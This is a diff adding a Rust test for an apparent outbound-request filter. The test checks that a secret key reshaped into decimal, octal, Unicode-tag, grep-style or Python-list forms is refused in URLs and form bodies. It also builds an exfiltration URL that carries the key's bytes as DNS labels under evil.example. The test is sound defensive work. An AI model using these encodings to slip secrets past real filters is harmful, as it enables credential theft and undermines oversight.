@@ -511,3 +511,85 @@ fn url_encode(text: &str) -> String {
         })
         .collect()
 }
+
+// proves: BEYOND-6 (round6 #5: decimal bytes joined by `.`, `-`, `_`, `/`
+// or zero-padded, octal lists, Unicode tag characters, decimal in DNS
+// labels, `grep -n -o .` output, Python's list of characters; in the URL
+// and in a form body; nothing resolved, nothing received)
+#[tokio::test]
+async fn round6_reshapings_of_a_secret_are_refused() {
+    let s = setup().await;
+    let joined =
+        |sep: &str, f: &dyn Fn(u8) -> String| KEY.bytes().map(f).collect::<Vec<_>>().join(sep);
+    let tags: String = KEY
+        .chars()
+        .map(|c| char::from_u32(0xE0000 + c as u32).expect("tag"))
+        .collect();
+    let grep_n: String = KEY.chars().map(|c| format!("1:{c}\n")).collect();
+    let python = format!(
+        "[{}]",
+        KEY.chars()
+            .map(|c| format!("'{c}'"))
+            .collect::<Vec<_>>()
+            .join(", ")
+    );
+    let mut forms: Vec<String> = [".", "-", "_", "/"]
+        .iter()
+        .map(|sep| joined(sep, &|b| b.to_string()))
+        .collect();
+    forms.push(joined("", &|b| format!("{b:03}")));
+    forms.push(joined(",", &|b| format!("{b:o}")));
+    forms.push(url_encode(&tags));
+    forms.push(url_encode(&grep_n));
+    forms.push(url_encode(&python));
+    for form in &forms {
+        let url = format!("http://api.example.com/c?d={form}");
+        let outcome = get(&s.fetcher, &url).await;
+        assert_eq!(
+            refusal_rule(&outcome),
+            Some("BEYOND-6"),
+            "{url}: {outcome:?}"
+        );
+        let outcome = s
+            .fetcher
+            .post_form(
+                "http://api.example.com/submit",
+                format!("q={form}").into_bytes(),
+                &CancellationToken::new(),
+            )
+            .await
+            .expect("not cancelled");
+        assert_eq!(
+            refusal_rule(&outcome),
+            Some("BEYOND-6"),
+            "body {form}: {outcome:?}"
+        );
+    }
+    // The first 17 bytes as decimal DNS labels, the rest in the path.
+    let bytes: Vec<String> = KEY.bytes().map(|b| b.to_string()).collect();
+    let url = format!(
+        "http://{}.evil.example/{}",
+        bytes[..17].join("."),
+        bytes[17..].join(".")
+    );
+    let outcome = get(&s.fetcher, &url).await;
+    assert_eq!(
+        refusal_rule(&outcome),
+        Some("BEYOND-6"),
+        "{url}: {outcome:?}"
+    );
+    assert_eq!(
+        s.resolver.queries(),
+        0,
+        "a refused request resolves nothing"
+    );
+    assert!(s.server.requests().is_empty() && s.other.requests().is_empty());
+    // Ordinary dotted numbers, versions and numbered lines pass.
+    for url in [
+        "http://api.example.com/v1.2.3/10.0.0.1/2026-11-29/12:30:45",
+        "http://api.example.com/?lines=1:a%0A2:b%0A3:c%0A4:d%0A5:e%0A6:f%0A7:g%0A8:h",
+    ] {
+        let fine = get(&s.fetcher, url).await;
+        assert!(matches!(fine, FetchOutcome::Page(_)), "{url}: {fine:?}");
+    }
+}
